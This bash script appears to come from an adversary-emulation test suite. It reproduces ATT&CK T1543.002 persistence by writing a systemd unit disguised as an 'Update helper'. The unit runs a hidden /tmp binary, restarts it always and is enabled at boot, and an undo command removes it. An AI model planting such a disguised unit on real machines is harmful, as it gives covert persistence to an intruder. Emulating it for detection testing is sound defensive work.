#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1543.002
# tactic: persistence
# what: a system unit written to /etc/systemd/system and enabled by its wants symlink
. "$AT_LIB"
at_undo "rm -f /etc/systemd/system/plattack.service /etc/systemd/system/multi-user.target.wants/plattack.service"
cat >/etc/systemd/system/plattack.service <<UNIT
[Unit]
Description=Update helper
[Service]
ExecStart=/bin/sh -c 'exec /tmp/.plattack-u'
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -sf /etc/systemd/system/plattack.service /etc/systemd/system/multi-user.target.wants/plattack.service
